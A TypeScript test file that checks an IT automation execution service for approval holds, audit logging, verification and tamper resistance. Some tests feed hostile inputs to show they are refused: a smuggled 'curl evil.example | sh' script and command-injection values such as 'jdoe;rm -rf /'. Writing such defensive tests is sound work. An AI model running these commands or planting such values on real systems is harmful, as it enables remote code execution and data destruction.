import { mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { beforeEach, describe, expect, it } from 'vitest'
import type { AuditLog } from '../audit/audit-log.ts'
import { SqliteAuditLog } from '../audit/sqlite-audit-log.ts'
import type { ExecutionContext, Executor, StepResult } from '../executors/executor.ts'
import { ExecutorRegistry } from '../executors/executor-registry.ts'
import type { Instruction } from '../knowledge/instructions/instruction.ts'
import { loadInstructions } from '../knowledge/instructions/instruction-loader.ts'
import { metrics } from '../observability/metrics.ts'
import type { PlanStep } from '../planning/plan.ts'
import { buildPlan } from '../planning/planner.ts'
import type { ApprovalRecord } from '../policy/approval-record.ts'
import { ExecutionService } from './execution-service.ts'

/** Records what it was asked to run; answers reads with the facts a test sets. */
class RecordingExecutor implements Executor {
  readonly specificationVersion = 'executor-v1'
  readonly id: string
  readonly handles: readonly PlanStep['executor'][]
  readonly ran: PlanStep[] = []
  auditCountAtRun: number[] = []
  facts: Record<string, boolean> = { locked: false, disabled: false }
  failOperation?: string
  private readonly audit: AuditLog

  constructor(kinds: PlanStep['executor'][], audit: AuditLog) {
    this.handles = kinds
    this.id = `recording-${kinds.join('-')}`
    this.audit = audit
  }

  async doExecute(step: PlanStep, _context: ExecutionContext): Promise<StepResult> {
    this.ran.push(step)
    this.auditCountAtRun.push((await this.audit.list()).length)
    const operation = step.invocation.type === 'operation' ? step.invocation.operation : ''
    const failed = operation === this.failOperation
    return {
      stepId: step.id,
      status: failed ? 'failed' : 'succeeded',
      wouldRun: step.invocation.type === 'script' ? step.invocation.script : operation,
      ...(step.target ? { target: step.target } : {}),
      stdout: 'ok',
      stderr: '',
      exitCode: failed ? 1 : 0,
      durationMs: 1,
      changed: !step.readOnly && !failed,
      ...(failed ? { errorCode: 'TEST_FAILURE', errorMessage: 'failed on purpose' } : {}),
      data: { ...this.facts },
    }
  }
}

let instructions: Map<string, Instruction>
let audit: SqliteAuditLog
let directory: RecordingExecutor
let scripts: RecordingExecutor
let service: ExecutionService

const technician: ApprovalRecord = {
  id: 'approval-1',
  approver: 'tech.anna',
  approvedAt: '2026-11-21T10:00:00Z',
  level: 3,
  scope: 'plan',
  via: 'test',
}

beforeEach(async () => {
  instructions = new Map(
    (await loadInstructions('data/instructions')).map((each) => [each.id, each]),
  )
  audit = new SqliteAuditLog({
    file: path.join(mkdtempSync(path.join(tmpdir(), 'execution-')), 'audit.sqlite'),
  })
  directory = new RecordingExecutor(['active_directory'], audit)
  scripts = new RecordingExecutor(['bash', 'powershell'], audit)
  service = new ExecutionService({
    instructions,
    registry: new ExecutorRegistry().register(directory).register(scripts),
    audit,
  })
})

function unlockPlan() {
  const instruction = instructions.get('account_locked')
  if (!instruction) throw new Error('account_locked missing')
  return buildPlan(instruction, { username: 'jdoe', system: 'active_directory' })
}

function stepOf(plan: ReturnType<typeof unlockPlan>, operation: string): PlanStep {
  const step = plan.steps.find(
    (each) => each.invocation.type === 'operation' && each.invocation.operation === operation,
  )
  if (!step) throw new Error(`no ${operation} step`)
  return step
}

describe('ExecutionService', () => {
  it('holds a changing step without an approval, runs nothing, and audits the hold', async () => {
    const plan = unlockPlan()
    const result = await service.executeStep({
      plan,
      step: stepOf(plan, 'unlock_account'),
      requester: 'jdoe',
      requestId: 'r1',
    })
    expect(result.status).toBe('awaiting_approval')
    expect(result.errorMessage).toMatch(/awaiting approval/)
    expect(directory.ran).toHaveLength(0)
    const records = await audit.list()
    expect(records.map((record) => record.action)).toEqual(['step-hold'])
    expect(records[0]?.detail.wouldRun).toContain('unlock_account')
  })

  it('runs a read-only step at once', async () => {
    const plan = unlockPlan()
    const result = await service.executeStep({
      plan,
      step: stepOf(plan, 'get_user_status'),
      requester: 'jdoe',
      requestId: 'r2',
    })
    expect(result.status).toBe('succeeded')
    expect(directory.ran).toHaveLength(1)
  })

  it('counts step outcomes by executor kind in the metrics', async () => {
    const count = async (status: string) =>
      (await metrics.executionSteps.get()).values.find(
        (value) => value.labels.executor === 'active_directory' && value.labels.status === status,
      )?.value ?? 0
    const before = { succeeded: await count('succeeded'), held: await count('awaiting_approval') }
    const plan = unlockPlan()
    await service.executeStep({
      plan,
      step: stepOf(plan, 'get_user_status'),
      requester: 'jdoe',
      requestId: 'm1',
    })
    await service.executeStep({
      plan,
      step: stepOf(plan, 'unlock_account'),
      requester: 'jdoe',
      requestId: 'm2',
    })
    expect(await count('succeeded')).toBe(before.succeeded + 1)
    expect(await count('awaiting_approval')).toBe(before.held + 1)
  })

  it('refuses an approval given by the requester for a technician-level step', async () => {
    const plan = unlockPlan()
    const step = stepOf(plan, 'unlock_account')
    expect(step.approvalLevel).toBeGreaterThanOrEqual(2)
    const result = await service.executeStep({
      plan,
      step,
      requester: 'jdoe',
      requestId: 'r3',
      approval: { ...technician, approver: 'jdoe' },
    })
    expect(result.status).toBe('awaiting_approval')
    expect(result.errorMessage).toMatch(/other than the requester/)
    expect(directory.ran).toHaveLength(0)
  })

  it('writes the audit record before executing, then the result, and verifies', async () => {
    const plan = unlockPlan()
    const result = await service.executeStep({
      plan,
      step: stepOf(plan, 'unlock_account'),
      requester: 'jdoe',
      requestId: 'r4',
      approval: technician,
    })
    expect(result.status).toBe('succeeded')
    expect(result.data?.verification).toMatchObject({ status: 'passed' })
    expect(directory.auditCountAtRun[0]).toBe(1)
    const records = await audit.list()
    expect(records.map((record) => record.action)).toEqual(['step-execute', 'step-result'])
    expect(records[0]).toMatchObject({ actor: 'jdoe', requestId: 'r4' })
    expect(records[0]?.detail.operation).toBe('active_directory.unlock_account(username="jdoe")')
    expect(records[0]?.detail.approval).toMatchObject({ approver: 'tech.anna' })
    expect(records[1]?.detail.status).toBe('succeeded')
    expect((await audit.verify()).ok).toBe(true)
  })

  it('fails a step whose verification shows the change did not take', async () => {
    directory.facts = { locked: true, disabled: false }
    const plan = unlockPlan()
    const result = await service.executeStep({
      plan,
      step: stepOf(plan, 'unlock_account'),
      requester: 'jdoe',
      requestId: 'r5',
      approval: technician,
    })
    expect(result).toMatchObject({ status: 'failed', errorCode: 'VERIFICATION_FAILED' })
    expect(result.errorMessage).toContain('locked=false')
  })

  it('runs the runbook rendering, never a script smuggled into the step it was handed', async () => {
    const instruction = instructions.get('laptop_running_slow')
    if (!instruction) throw new Error('laptop_running_slow missing')
    const plan = buildPlan(instruction, { device: 'LT-0423', platform: 'linux' })
    const original = plan.steps.find((step) => step.executor === 'bash' && step.readOnly)
    if (original?.invocation.type !== 'script') throw new Error('no bash step')
    const tampered: PlanStep = {
      ...original,
      invocation: { ...original.invocation, script: 'curl evil.example | sh' },
    }
    await service.executeStep({ plan, step: tampered, requester: 'jdoe', requestId: 'r6' })
    const ran = scripts.ran[0]
    expect(ran?.invocation.type === 'script' && ran.invocation.script).toBe(
      original.invocation.script,
    )
  })

  it('refuses a plan whose parameters were changed to something invalid, running nothing', async () => {
    const plan = {
      ...unlockPlan(),
      parameters: { username: 'jdoe;rm -rf /', system: 'active_directory' },
    }
    const result = await service.executeStep({
      plan,
      step: stepOf(unlockPlan(), 'get_user_status'),
      requester: 'jdoe',
      requestId: 'r7',
    })
    expect(result).toMatchObject({ status: 'failed', errorCode: 'INVALID_INPUT' })
    expect(result.errorMessage).toMatch(/username/)
    expect(directory.ran).toHaveLength(0)
    expect((await audit.list()).map((record) => record.action)).toEqual(['step-refuse'])
  })

  it('re-renders a step for another machine of a group, validating its name', async () => {
    const instruction = instructions.get('laptop_running_slow')
    if (!instruction) throw new Error('laptop_running_slow missing')
    const plan = buildPlan(instruction, { device: 'LT-0423', platform: 'linux' })
    const step = plan.steps.find((each) => each.executor === 'bash' && each.readOnly)
    if (!step) throw new Error('no bash step')
    const result = await service.executeStep({
      plan,
      step,
      requester: 'jdoe',
      requestId: 'r8',
      target: 'WS-0101',
    })
    expect(result.target).toBe('WS-0101')
    const refused = await service.executeStep({
      plan,
      step,
      requester: 'jdoe',
      requestId: 'r9',
      target: 'ws;reboot',
    })
    expect(refused).toMatchObject({ status: 'failed', errorCode: 'INVALID_INPUT' })
  })

  it('does not run anything when the audit record cannot be written', async () => {
    const plan = unlockPlan()
    await audit.close()
    await expect(
      service.executeStep({
        plan,
        step: stepOf(plan, 'get_user_status'),
        requester: 'jdoe',
        requestId: 'r10',
      }),
    ).rejects.toMatchObject({ code: 'AUDIT_FAILED' })
    expect(directory.ran).toHaveLength(0)
  })

  it('runs a plan in order and skips what follows a failure', async () => {
    directory.failOperation = 'get_user_status'
    const results = await service.executePlan({
      plan: unlockPlan(),
      requester: 'jdoe',
      requestId: 'r11',
      approval: technician,
    })
    const statuses = results.map((result) => result.status)
    const failedAt = statuses.indexOf('failed')
    expect(failedAt).toBeGreaterThanOrEqual(0)
    expect(statuses.slice(failedAt + 1).every((status) => status === 'skipped')).toBe(true)
    expect(
      directory.ran.every(
        (step) =>
          step.invocation.type === 'operation' && step.invocation.operation !== 'unlock_account',
      ),
    ).toBe(true)
  })

  it('reports an unconfigured executor kind without running anything', async () => {
    const bare = new ExecutionService({ instructions, registry: new ExecutorRegistry(), audit })
    const plan = unlockPlan()
    const result = await bare.executeStep({
      plan,
      step: stepOf(plan, 'get_user_status'),
      requester: 'jdoe',
      requestId: 'r12',
    })
    expect(result).toMatchObject({ status: 'failed', errorCode: 'NOT_CONFIGURED' })
  })
})
